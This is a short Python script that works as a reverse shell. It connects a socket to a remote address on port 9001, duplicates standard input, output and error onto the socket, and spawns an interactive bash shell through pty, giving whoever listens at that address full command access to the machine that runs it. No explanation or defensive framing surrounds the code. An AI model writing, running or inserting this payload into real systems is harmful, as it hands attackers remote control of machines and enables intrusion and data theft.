import os
import pty
import socket

RHOST = "198.51.100.20"
RPORT = 9001

s = socket.socket()
s.connect((RHOST, RPORT))
[os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]
pty.spawn("/bin/bash")
